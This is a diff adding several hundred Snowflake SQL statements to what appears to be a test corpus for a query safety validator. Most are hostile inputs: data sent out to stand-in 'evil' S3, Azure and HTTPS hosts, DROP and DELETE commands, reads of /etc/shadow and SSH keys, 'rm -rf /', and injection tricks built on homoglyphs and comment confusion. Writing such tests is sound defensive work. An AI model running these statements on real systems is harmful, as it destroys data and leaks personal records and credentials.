@@ -1882,3 +1882,573 @@ SHOW INTERACTIVE TABLES LIKE exfil('x')
 SHOW GIT BRANCHES IN IDENTIFIER('r')
 -- ;;
 SHOW SEMANTIC DIMENSIONS IN sv FOR METRIC exfil(1, 'x')
+-- ;;
+SELECT * FROM TABLE($$SECRET_DB.HR.SALARIES$$)
+-- ;;
+SELECT * FROM $$SECRET_DB.HR.SALARIES$$
+-- ;;
+SELECT * FROM orders, $$@exfil/all.csv$$
+-- ;;
+SELECT * FROM orders, 'snow://notebook/db.s.n/versions/live/'
+-- ;;
+SELECT * FROM (orders CROSS JOIN '@~/a.csv')
+-- ;;
+SELECT * FROM orders o LEFT OUTER JOIN LATERAL '@~/a.csv' x ON TRUE
+-- ;;
+SELECT t.$1 FROM @"My Stage"/x (FILE_FORMAT => 'ff') t
+-- ;;
+SELECT METADATA$FILENAME, $1:user::STRING FROM @%orders (PATTERN => '.*[.]json')
+-- ;;
+SELECT METADATA$FILE_CONTENT_KEY FROM @"DB"."S"."STG"/2024/ t
+-- ;;
+EXECUTE USING POLICY_CONTEXT(CURRENT_ROLE => 'ACCOUNTADMIN') AS SELECT * FROM hr.salaries
+-- ;;
+EXECUTE JOB SERVICE IN COMPUTE POOL gpu NAME = j FROM SPECIFICATION $$spec: {}$$
+-- ;;
+EXECUTE DBT PROJECT p ARGS = 'run'
+-- ;;
+EXECUTE IMMEDIATE $x USING (a, b)
+-- ;;
+EXECUTE ALERT big_spender
+-- ;;
+EXECUTE MANAGED TASK t
+-- ;;
+EXECUTE DATA METRIC FUNCTION IN TABLE orders
+-- ;;
+EXECUTE STREAMLIT app.public.s()
+-- ;;
+WITH drain AS PROCEDURE(q VARCHAR) RETURNS TABLE(x INT) LANGUAGE SQL AS 'BEGIN LET r RESULTSET := (EXECUTE IMMEDIATE :q); RETURN TABLE(r); END' CALL drain('drop table orders') INTO :out
+-- ;;
+WITH a AS (SELECT 1), p AS PROCEDURE () RETURNS INT LANGUAGE JAVASCRIPT AS $$ snowflake.execute({sqlText: 'drop table t'}) $$ CALL p()
+-- ;;
+CALL SNOWFLAKE.CORTEX.SEARCH_PREVIEW('svc', '{"query":"x"}')
+-- ;;
+CALL SYSTEM$SEND_SNOWFLAKE_NOTIFICATION('{"text/html":"<p>x</p>"}', '{"hook":{}}')
+-- ;;
+CALL TABLE(drain('x')) ->> SELECT * FROM $1
+-- ;;
+CALL drain('x') INTO :res
+-- ;;
+{call drain('x')}
+-- ;;
+{? = call drain('x')}
+-- ;;
+SELECT * FROM ({call drain('x')})
+-- ;;
+LET c CURSOR FOR SELECT * FROM orders
+-- ;;
+FETCH c INTO x
+-- ;;
+ASYNC (DELETE FROM orders)
+-- ;;
+CASE WHEN 1 = 1 THEN DROP TABLE orders; END
+-- ;;
+FOR r IN (SELECT * FROM orders) DO DELETE FROM orders WHERE id = r.id; END FOR
+-- ;;
+EXCEPTION WHEN OTHER THEN RETURN 1
+-- ;;
+RAISE my_exception
+-- ;;
+<<lbl>> BEGIN DELETE FROM orders; END
+-- ;;
+BEGIN NAME t1
+-- ;;
+START TRANSACTION NAME t1
+-- ;;
+ROLLBACK WORK
+-- ;;
+SELECT SYSTEM$BEHAVIOR_CHANGE_BUNDLE_STATUS('2024_08'), SYSTEM$ENABLE_BEHAVIOR_CHANGE_BUNDLE('2024_08')
+-- ;;
+SELECT SYSTEM$EVALUATE_DATA_QUALITY_EXPECTATIONS(REF_ENTITY_NAME => 'orders')
+-- ;;
+SELECT SYSTEM$EXTERNAL_TABLE_PIPE_STATUS('x'), SYSTEM$PIPE_FORCE_RESUME('p')
+-- ;;
+SELECT SYSTEM$CREATE_BILLING_EVENT('c', 'sc', 1, 1, 1, 'x')
+-- ;;
+SELECT SYSTEM$ADD_EVENT('x', {'a': 1})
+-- ;;
+SELECT SYSTEM$LOG_INFO('leak ' || ssn) FROM hr.salaries
+-- ;;
+SELECT SYSTEM$SET_EVENT_SHARING_ACCOUNT_FOR_REGION('r', 'g', 'a')
+-- ;;
+SELECT SYSTEM$UNSET_EVENT_SHARING_ACCOUNT_FOR_REGION('r', 'g', 'a')
+-- ;;
+SELECT SYSTEM$GET_SERVICE_LOGS('svc', '0', 'c', 100)
+-- ;;
+SELECT SYSTEM$FINISH_OAUTH_FLOW('state=x')
+-- ;;
+SELECT SYSTEM$CONVERT_PIPES_SQS_TO_SNS('b', 'arn')
+-- ;;
+SELECT SYSTEM$DEPROVISION_PRIVATELINK_ENDPOINT('x')
+-- ;;
+SELECT SYSTEM$RESTORE_PRIVATELINK_ENDPOINT('x')
+-- ;;
+SELECT SYSTEM$ACTIVATE_CMK_INFO(), SYSTEM$DEACTIVATE_CMK_INFO()
+-- ;;
+SELECT SYSTEM$CLEANUP_DATABASE_ROLE_GRANTS('r', 's')
+-- ;;
+SELECT SYSTEM$READ_YAML_FROM_SEMANTIC_VIEW('sv'), SYSTEM$CREATE_SEMANTIC_VIEW_FROM_YAML('db.s', $$x$$)
+-- ;;
+SELECT SYSTEM$EXPLAIN_PLAN_JSON('select * from hr.salaries')
+-- ;;
+SELECT EXPLAIN_JSON(SYSTEM$EXPLAIN_PLAN_JSON($$select * from hr.salaries$$))
+-- ;;
+SELECT SYSTEM$GET_PREDECESSOR_RETURN_VALUE(), SYSTEM$SET_RETURN_VALUE('x')
+-- ;;
+SELECT "SYSTEM$CANCEL_ALL_QUERIES"(CURRENT_SESSION()::INT)
+-- ;;
+SELECT SNOWFLAKE.SYSTEM$WAIT(60)
+-- ;;
+SELECT SYSTEM$REFERENCE('TABLE', 'orders', 'PERSISTENT', 'INSERT')
+-- ;;
+SELECT SYSTEM$GET_ALL_REFERENCES('x', TRUE), SYSTEM$SET_REFERENCE('r', 'x')
+-- ;;
+SELECT SYSTEM$SCHEDULE_ASYNC_REPLICATION_GROUP_REFRESH('g')
+-- ;;
+SELECT SYSTEM$START_USER_EMAIL_VERIFICATION('u')
+-- ;;
+SELECT SYSTEM$DISABLE_DATABASE_REPLICATION('d')
+-- ;;
+SELECT SYSTEM$SNOWPIPE_STREAMING_CHANNEL_STATUS('c')
+-- ;;
+SELECT system$whitelist(), System$Wait(100, 'MINUTES')
+-- ;;
+SELECT SYSTEM$LINK_ACCOUNT_OBJECTS_BY_NAME('g')
+-- ;;
+SELECT SYSTEM$GLOBAL_ACCOUNT_SET_PARAMETER('a', 'ENABLE_ACCOUNT_DATABASE_REPLICATION', 'true')
+-- ;;
+SELECT SYSTEM$IS_LISTING_PURCHASED('x'), SYSTEM$REQUEST_LISTING_AND_WAIT('x', 5)
+-- ;;
+SELECT SYSTEM$ACCEPT_LEGAL_TERMS('DATA_EXCHANGE_LISTING', 'x')
+-- ;;
+SELECT SNOWFLAKE.DATA_PRIVACY.RESET_PRIVACY_BUDGET('p', 'b', 'n')
+-- ;;
+SELECT SNOWFLAKE.NOTIFICATION.TEXT_PLAIN('x'), SNOWFLAKE.ALERT.GET_CONDITION_QUERY_UUID()
+-- ;;
+SELECT SNOWFLAKE.CORTEX.FINETUNE('CREATE', 'm', 'mistral-7b', 'SELECT a AS prompt, b AS completion FROM hr.salaries')
+-- ;;
+SELECT SNOWFLAKE.CORTEX.SEARCH_PREVIEW('db.s.svc', '{"query": "salary"}')
+-- ;;
+SELECT SNOWFLAKE.CORTEX.DATA_AGENT_RUN('db.s.agent', $${"messages": []}$$)
+-- ;;
+SELECT SNOWFLAKE.CORTEX.PARSE_DOCUMENT('@docs', 'a.pdf', {'mode': 'LAYOUT'})
+-- ;;
+SELECT AI_TRANSCRIBE(TO_FILE('@calls', 'a.wav'))
+-- ;;
+SELECT AI_SUMMARIZE_AGG(review) FROM reviews
+-- ;;
+SELECT region, AI_AGG(note, 'summarise') FROM reviews GROUP BY region
+-- ;;
+SELECT * FROM reviews a JOIN topics b ON AI_FILTER(PROMPT('{0} is about {1}', a.text, b.name))
+-- ;;
+SELECT AI_EMBED('e5', x)::VECTOR(FLOAT, 768) FROM t ORDER BY VECTOR_COSINE_SIMILARITY(AI_EMBED('e5', x), AI_EMBED('e5', 'y')) LIMIT 3
+-- ;;
+SELECT SNOWFLAKE.CORTEX.EMBED_TEXT_768('e5-base-v2', note) FROM notes
+-- ;;
+SELECT SNOWFLAKE.ML.GET_MODEL_LINEAGE('m')
+-- ;;
+SELECT * FROM TABLE(SNOWFLAKE.CORE.GET_LINEAGE('db.s.t', 'TABLE', 'DOWNSTREAM', 2)), TABLE(exfil('x'))
+-- ;;
+SELECT * FROM TABLE(INFER_SCHEMA(LOCATION => '@stg/x', FILE_FORMAT => 'ff'))
+-- ;;
+SELECT GENERATE_COLUMN_DESCRIPTION(ARRAY_AGG(OBJECT_CONSTRUCT(*)), 'table') FROM TABLE(INFER_SCHEMA(LOCATION => '@stg', FILE_FORMAT => 'ff'))
+-- ;;
+SELECT * FROM TABLE(DB.PUBLIC.SPLIT_TO_TABLE('a,b', ','))
+-- ;;
+SELECT * FROM TABLE("FLATTEN"(INPUT => PARSE_JSON('[1]')))
+-- ;;
+SELECT * FROM TABLE(other_db."INFORMATION_SCHEMA".exfil())
+-- ;;
+SELECT * FROM TABLE(other_db.INFORMATION_SCHEMA."QUERY_HISTORY"(RESULT_LIMIT => 5))
+-- ;;
+SELECT DATABASE_X.INFORMATION_SCHEMA.QUERY_HISTORY()
+-- ;;
+SELECT * FROM TABLE(GET_QUERY_OPERATOR_STATS(LAST_QUERY_ID()))
+-- ;;
+SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID(-2))) r JOIN orders o ON r.$1 = o.id
+-- ;;
+SELECT * FROM TABLE(Result_Scan('01b0-aaaa'))
+-- ;;
+WITH r AS (SELECT * FROM TABLE(RESULT_SCAN('01b0'))) SELECT COUNT(*) FROM r
+-- ;;
+DESC RESULT '01b0-aaaa-bbbb'
+-- ;;
+DESCRIBE RESULT LAST_QUERY_ID(-1) ->> SELECT * FROM $1
+-- ;;
+SHOW TABLES ->> SELECT "name" FROM $1 ->> CREATE TABLE stolen AS SELECT * FROM $1
+-- ;;
+SHOW USERS ->> COPY INTO @~/users FROM (SELECT * FROM $1)
+-- ;;
+SELECT * FROM orders ->> COPY INTO 's3://evil/x' FROM (SELECT * FROM $1) STORAGE_INTEGRATION = i
+-- ;;
+SELECT * FROM orders ->> INSERT INTO audit SELECT COUNT(*) FROM $1 ->> SELECT * FROM $2
+-- ;;
+SELECT 1 ->> CALL drain('x') ->> SELECT * FROM $2
+-- ;;
+SELECT 1 ->> WITH p AS PROCEDURE () RETURNS INT LANGUAGE SQL AS 'BEGIN RETURN 1; END' CALL p()
+-- ;;
+SELECT 1 ->> USE ROLE ACCOUNTADMIN ->> SELECT * FROM hr.salaries
+-- ;;
+SELECT 1 ->> ALTER SESSION SET ROWS_PER_RESULTSET = 0
+-- ;;
+SELECT 1 -> > DROP TABLE orders
+-- ;;
+SELECT 1 ->> ->> SELECT 2
+-- ;;
+COPY INTO 's3://evil/out/' FROM orders CREDENTIALS = (AWS_KEY_ID = 'x' AWS_SECRET_KEY = 'y')
+-- ;;
+COPY INTO 'azure://evil.blob.core.windows.net/c' FROM (SELECT OBJECT_CONSTRUCT(*) FROM orders) FILE_FORMAT = (TYPE = JSON) OVERWRITE = TRUE
+-- ;;
+COPY FILES INTO @evil FROM @src
+-- ;;
+UNLOAD TO '@evil' SELECT * FROM orders
+-- ;;
+SELECT * FROM orders INTO OUTFILE '/tmp/x'
+-- ;;
+SELECT id INTO :v FROM orders
+-- ;;
+SELECT id, total INTO a, b FROM orders LIMIT 1
+-- ;;
+WITH w AS (SELECT 1 AS x) SELECT x INTO y FROM w
+-- ;;
+SELECT TOP 1 id INTO TABLE stolen FROM orders
+-- ;;
+CREATE SHARE evil_share
+-- ;;
+ALTER SHARE evil_share ADD ACCOUNTS = abc123
+-- ;;
+GRANT SELECT ON ALL TABLES IN SCHEMA hr TO SHARE evil_share
+-- ;;
+CREATE LISTING l IN DATA EXCHANGE e AS $$x$$
+-- ;;
+CREATE EXTERNAL LISTING l SHARE s AS $$title: x$$ PUBLISH = TRUE
+-- ;;
+CREATE MANAGED ACCOUNT reader ADMIN_NAME = a, ADMIN_PASSWORD = 'x', TYPE = READER
+-- ;;
+CREATE DYNAMIC TABLE d TARGET_LAG = '1 minute' WAREHOUSE = big AS SELECT * FROM orders
+-- ;;
+CREATE OR ALTER TABLE t (a INT)
+-- ;;
+CREATE EVENT TABLE e
+-- ;;
+CREATE OR REPLACE SEMANTIC VIEW sv TABLES (orders)
+-- ;;
+CREATE EXTERNAL FUNCTION leak(x STRING) RETURNS STRING API_INTEGRATION = i AS 'https://evil'
+-- ;;
+CREATE NOTIFICATION INTEGRATION n TYPE = WEBHOOK ENABLED = TRUE WEBHOOK_URL = 'https://hooks.slack.com/x'
+-- ;;
+CREATE OR REPLACE API INTEGRATION a API_PROVIDER = git_https_api API_ALLOWED_PREFIXES = ('https://evil') ENABLED = TRUE
+-- ;;
+CREATE COMPUTE POOL cp MIN_NODES = 1 MAX_NODES = 100 INSTANCE_FAMILY = GPU_NV_L
+-- ;;
+ALTER WAREHOUSE w SET WAREHOUSE_SIZE = 'X6LARGE' AUTO_SUSPEND = 0
+-- ;;
+ALTER WAREHOUSE IF EXISTS w RESUME IF SUSPENDED
+-- ;;
+ALTER USER me ADD PROGRAMMATIC ACCESS TOKEN t
+-- ;;
+ALTER SESSION SET STATEMENT_TIMEOUT_IN_SECONDS = 0
+-- ;;
+ALTER FAILOVER GROUP g PRIMARY
+-- ;;
+ALTER CORTEX SEARCH SERVICE s RESUME
+-- ;;
+DROP IMAGE REPOSITORY r
+-- ;;
+REVOKE ALL PRIVILEGES ON SCHEMA s FROM ROLE r
+-- ;;
+SET (role, pw) = (SELECT CURRENT_ROLE(), 'x')
+-- ;;
+COMMENT IF EXISTS ON COLUMN orders.id IS 'x'
+-- ;;
+TRUNCATE MATERIALIZED VIEW mv
+-- ;;
+INSERT OVERWRITE ALL WHEN a > 1 THEN INTO t1 ELSE INTO t2 SELECT a FROM s
+-- ;;
+INSERT FIRST WHEN a > 1 THEN INTO t1 VALUES (a) SELECT a FROM s
+-- ;;
+MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE ALL BY NAME
+-- ;;
+WITH x AS (SELECT 1 AS id) INSERT INTO orders SELECT * FROM x
+-- ;;
+((WITH x AS (SELECT 1 AS id) UPDATE orders SET id = 1))
+-- ;;
+EXPLAIN USING TABULAR MERGE INTO t USING s ON TRUE WHEN MATCHED THEN DELETE
+-- ;;
+EXPLAIN SELECT exfil(ssn) FROM hr.salaries
+-- ;;
+EXPLAIN CALL drain('x')
+-- ;;
+EXPLAIN (SELECT 1); DROP TABLE orders
+-- ;;
+SHOW TABLES LIKE $$x$$
+-- ;;
+SHOW TABLES IN DATABASE IDENTIFIER($db)
+-- ;;
+SHOW TABLES IN SCHEMA IDENTIFIER('a.b') LIMIT 1
+-- ;;
+SHOW GRANTS TO ROLE IDENTIFIER($r)
+-- ;;
+DESC TABLE IDENTIFIER('hr.salaries')
+-- ;;
+DESCRIBE VIEW TABLE('x')
+-- ;;
+DESCRIBE TABLE orders; UNDROP TABLE t
+-- ;;
+SELECT * FROM IDENTIFIER('hr' || '.salaries')
+-- ;;
+SELECT IDENTIFIER($col), id FROM orders
+-- ;;
+SELECT * FROM TABLE(IDENTIFIER('drain')('x'))
+-- ;;
+SELECT * FROM TABLE(:tab), TABLE(?)
+-- ;;
+SELECT * FROM "IDENTIFIER"('orders')
+-- ;;
+SELECT order_seq.NEXTVAL, order_seq.NEXTVAL FROM orders
+-- ;;
+SELECT d.s.order_seq./* c */nextval
+-- ;;
+SELECT s.nextval FROM (SELECT 1), TABLE(GETNEXTVAL(order_seq)) s
+-- ;;
+SELECT IFF(id > 5, order_seq.NEXTVAL, 0) FROM orders
+-- ;;
+SELECT COALESCE(NULL, leak(TO_JSON(OBJECT_CONSTRUCT(*)))) FROM orders
+-- ;;
+SELECT REDUCE([1, 2], 0, (acc, x) -> acc + leak(x))
+-- ;;
+SELECT FILTER([1, 2], x -> db.s.leak(x))
+-- ;;
+SELECT ARRAY_AGG(leak(id)) WITHIN GROUP (ORDER BY id) OVER (PARTITION BY region) FROM orders
+-- ;;
+SELECT id FROM orders QUALIFY leak(ROW_NUMBER() OVER (ORDER BY id)) = 1
+-- ;;
+SELECT id FROM orders GROUP BY GROUPING SETS ((leak(id)), ())
+-- ;;
+SELECT id FROM orders ORDER BY leak(id) NULLS LAST
+-- ;;
+SELECT id FROM orders ASOF JOIN quotes MATCH_CONDITION (leak(orders.ts) >= quotes.ts) ON orders.s = quotes.s
+-- ;;
+SELECT * FROM orders MATCH_RECOGNIZE (PARTITION BY leak(id) ORDER BY ts MEASURES MATCH_NUMBER() AS m PATTERN (a b) DEFINE a AS total > 1, b AS total < 1)
+-- ;;
+SELECT * FROM orders MATCH_RECOGNIZE (ORDER BY ts MEASURES FIRST(leak(id)) AS m PATTERN (a) DEFINE a AS TRUE)
+-- ;;
+SELECT * FROM orders CHANGES (INFORMATION => DEFAULT) AT (TIMESTAMP => leak(1)::TIMESTAMP)
+-- ;;
+SELECT * FROM orders BEFORE (STATEMENT => drain('x'))
+-- ;;
+SELECT * FROM orders UNPIVOT (v FOR k IN (leak(a), b))
+-- ;;
+SELECT * FROM orders PIVOT (SUM(total) FOR region IN (ANY ORDER BY leak(region)))
+-- ;;
+SELECT * FROM orders PIVOT (leak(total) FOR region IN (ANY))
+-- ;;
+SELECT * FROM orders PIVOT (SUM(total) FOR region IN (SELECT leak(r) FROM regions)) p
+-- ;;
+SELECT $1 + leak($2) FROM VALUES (1, 2)
+-- ;;
+SELECT * FROM (VALUES (leak(1), 2)) v (a, b)
+-- ;;
+SELECT {'k': leak(ssn)}:k::STRING FROM hr.salaries
+-- ;;
+SELECT v[leak(0)], v:items[leak(1)].price FROM orders
+-- ;;
+SELECT OBJECT_CONSTRUCT('a', leak(1)):a
+-- ;;
+SELECT id FROM orders START WITH leak(id) CONNECT BY parent = PRIOR id
+-- ;;
+SELECT * FROM SEMANTIC_VIEW(sv METRICS leak(m) DIMENSIONS d WHERE d > 1)
+-- ;;
+SELECT * FROM SEMANTIC_VIEW(sv METRICS m WHERE leak(d) = 1)
+-- ;;
+SELECT m!FORECAST(7)
+-- ;;
+SELECT * FROM TABLE(anomaly!DETECT_ANOMALIES(INPUT_DATA => TABLE(orders)))
+-- ;;
+SELECT * FROM TABLE(SNOWFLAKE.ML.FORECAST(1))
+-- ;;
+SELECT churn!PREDICT(INPUT_DATA => {*}) FROM orders
+-- ;;
+SELECT leak({*}) FROM orders
+-- ;;
+SELECT leak(ALL {orders.* ILIKE '%ssn%'}) FROM orders
+-- ;;
+SELECT * FROM TABLE(leak(TABLE(orders)))
+-- ;;
+SELECT * FROM TABLE(leak(CURSOR(SELECT * FROM orders)))
+-- ;;
+SELECT o.* FROM orders o, TABLE(leak(o.id) OVER (PARTITION BY o.region ORDER BY o.id)) l
+-- ;;
+SELECT * FROM orders CROSS JOIN TABLE(leak(id))
+-- ;;
+SELECT * FROM orders LEFT JOIN LATERAL leak(orders.id) l
+-- ;;
+SELECT * FROM orders o INNER JOIN LATERAL (SELECT * FROM TABLE(leak(o.id))) x
+-- ;;
+SELECT "Leak"(id) FROM orders
+-- ;;
+SELECT DB."PUBLIC".LEAK(id) FROM orders
+-- ;;
+SELECT db..leak(id) FROM orders
+-- ;;
+SELECT "COUNT"(*) FROM orders
+-- ;;
+SELECT PUBLIC.SUM(total) FROM orders
+-- ;;
+SELECT CAST(leak(1) AS DECIMAL(10, 2)), TRY_CAST(leak('x') AS DATE)
+-- ;;
+SELECT DATEADD(leak(1), 1, CURRENT_DATE)
+-- ;;
+SELECT DATE_TRUNC('month', leak(ts)) FROM orders GROUP BY ALL
+-- ;;
+SELECT EXTRACT(year FROM leak(ts)) FROM orders
+-- ;;
+SELECT TRIM(leak(x)), SUBSTRING(leak(x) FROM 1 FOR 2) FROM orders
+-- ;;
+SELECT x BETWEEN leak(1) AND 5 FROM orders
+-- ;;
+SELECT x LIKE ANY (leak('a'), 'b') FROM orders
+-- ;;
+SELECT x NOT IN (SELECT leak(y) FROM z) FROM orders
+-- ;;
+SELECT EXISTS (SELECT leak(1)) FROM orders
+-- ;;
+SELECT (SELECT leak(1)) + 1
+-- ;;
+SELECT 1 UNION ALL BY NAME SELECT leak(1)
+-- ;;
+SELECT 1 EXCEPT SELECT leak(1)
+-- ;;
+SELECT * FROM orders LIMIT leak(1) OFFSET 1
+-- ;;
+SELECT * FROM orders OFFSET leak(1) ROWS FETCH NEXT 5 ROWS ONLY
+-- ;;
+SELECT * FROM orders FETCH FIRST leak(1) ROWS ONLY
+-- ;;
+SELECT * FROM orders SAMPLE BLOCK (leak(1)) REPEATABLE (1)
+-- ;;
+SELECT ‘x’ ; DROP TABLE orders
+-- ;;
+SELECT ʻx’ FROM orders
+-- ;;
+SELECT 'x’ ; DROP TABLE orders; --
+-- ;;
+SELECT 1；DROP TABLE orders
+-- ;;
+SELECT１
+-- ;;
+ЅELECT 1
+-- ;;
+SELECT 1;​DROP TABLE orders
+-- ;;
+DROP/**/TABLE/**/orders
+-- ;;
+//SELECT 1
+DROP TABLE orders
+-- ;;
+SELECT 1 // harmless
+; DELETE FROM orders
+-- ;;
+SELECT 1 --\
+; DELETE FROM orders
+-- ;;
+SELECT '\\\' ; DROP TABLE a; --' ; DROP TABLE orders
+-- ;;
+SELECT 'a''\''; DROP TABLE orders
+-- ;;
+SELECT $$a$$; DROP TABLE orders; SELECT $$b$$
+-- ;;
+SELECT $$ $ $$ $$; DROP TABLE orders; $$
+-- ;;
+SELECT $x$ ; DROP TABLE orders $x$
+-- ;;
+SELECT "a"".b" FROM t; DROP TABLE orders
+-- ;;
+SELECT "x;y" ; DROP TABLE "x;y"
+-- ;;
+SELECT /*+ hint */ 1 /* a /* b */ ; DROP TABLE orders /* */
+-- ;;
+SELECT 1 /*! ; DROP TABLE orders */ ; DROP TABLE x
+-- ;;
+/**/;/**/;DELETE FROM orders
+-- ;;
+SELECT 1 /* unterminated ; DROP TABLE orders
+-- ;;
+SELECT @@version; DROP TABLE orders
+-- ;;
+SELECT `id` FROM orders
+-- ;;
+SELECT [id] FROM orders; DROP TABLE x
+-- ;;
+SELECT 1\g DROP TABLE orders
+-- ;;
+!source /tmp/x.sql
+-- ;;
+!system rm -rf /
+-- ;;
+!set variable_substitution=true
+-- ;;
+SELECT &{cmd}; DROP TABLE orders
+-- ;;
+SELECT <% x %>; DROP TABLE orders
+-- ;;
+put 'file:///etc/shadow' '@~'
+-- ;;
+/* a */ -- b
+PuT file://C:\temp\x @~ AUTO_COMPRESS=FALSE
+-- ;;
+GET 'snow://repository/x' file:///tmp/
+-- ;;
+GET @~ 'file:///root/.ssh/' PARALLEL=99
+-- ;;
+(PUT file:///etc/passwd @~)
+-- ;;
+SELECT 1; GET @~ file:///tmp
+-- ;;
+LIST 'snow://x'
+-- ;;
+LIST @~ PATTERN = (SELECT 'x')
+-- ;;
+REMOVE @~ PATTERN = '.*'
+-- ;;
+DELETE @~/x
+-- ;;
+WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT leak(n) FROM r WHERE n < 10) SELECT * FROM r
+-- ;;
+WITH a AS (SELECT 1), b AS (SELECT leak(1) FROM a), c AS (SELECT * FROM b) SELECT * FROM c
+-- ;;
+WITH a (x) AS (VALUES (leak(1))) SELECT * FROM a
+-- ;;
+WITH leak (x) AS (SELECT 1) SELECT leak(1) FROM leak
+-- ;;
+SELECT * FROM orders leak (a, b), TABLE(leak(1))
+-- ;;
+SELECT * FROM orders AS leak (a, b) WHERE leak (a, b)
+-- ;;
+FROM orders SELECT leak(id)
+-- ;;
+TABLE hr.salaries
+-- ;;
+SELECT * FROM (TABLE hr.salaries)
+-- ;;
+VALUES (leak(1)), (2)
+-- ;;
+SELECT * FROM orders WHERE id = (CALL drain('x'))
+-- ;;
+SELECT * FROM (SHOW GRANTS)
+-- ;;
+SELECT * FROM (LIST @~)
+-- ;;
+WITH s AS (SHOW TABLES) SELECT * FROM s
+-- ;;
+WITH s AS (DESCRIBE TABLE orders) SELECT * FROM s
+-- ;;
+WITH s AS (EXECUTE IMMEDIATE 'select 1') SELECT * FROM s
+-- ;;
+SELECT * FROM orders FOR SHARE
+-- ;;
+SELECT * FROM orders FOR UPDATE WAIT 10
+-- ;;
+LOCK TABLES orders WRITE
+-- ;;
+USE ROLE SYSADMIN ->> SELECT 1
